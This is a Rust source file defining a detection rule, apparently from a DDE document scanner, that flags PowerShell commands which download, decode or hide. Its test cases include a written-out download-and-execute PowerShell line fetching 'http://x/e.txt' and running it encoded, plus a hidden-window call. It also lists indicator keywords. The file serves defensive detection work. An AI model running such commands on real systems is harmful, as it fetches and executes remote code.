//! PowerShell downloads, decodes or hides.

use super::features;
use super::{Case, Part, Rule, Subject};

pub(super) const RULE: Rule = Rule {
    id: "powershell-features",
    weight: 15,
    part: Part::Modifier,
    since: "0.1.0",
    doc: "The command downloads and runs text, decodes it, or hides its window: `-enc`, `IEX`, \
          `DownloadString`, `FromBase64String`, `-w hidden`.",
    hits: &[
        Case::dde(
            "cmd",
            "/k powershell.exe $e=(New-Object System.Net.WebClient).DownloadString('http://x/e.txt');powershell -enc $e ",
        ),
        Case::dde("powershell", "-w hidden -c x"),
    ],
    misses: &[
        Case::dde("cmd", "/c calc"),
        Case::dde("powershell", "-c dir"),
        Case::dde("BLP", "M"),
    ],
    look,
};

fn look(subject: &Subject<'_>) -> Option<String> {
    if !subject.starts() {
        return None;
    }
    subject.first_in_clear(|stem, text| features::powershell(text, features::is_powershell(stem)))
}
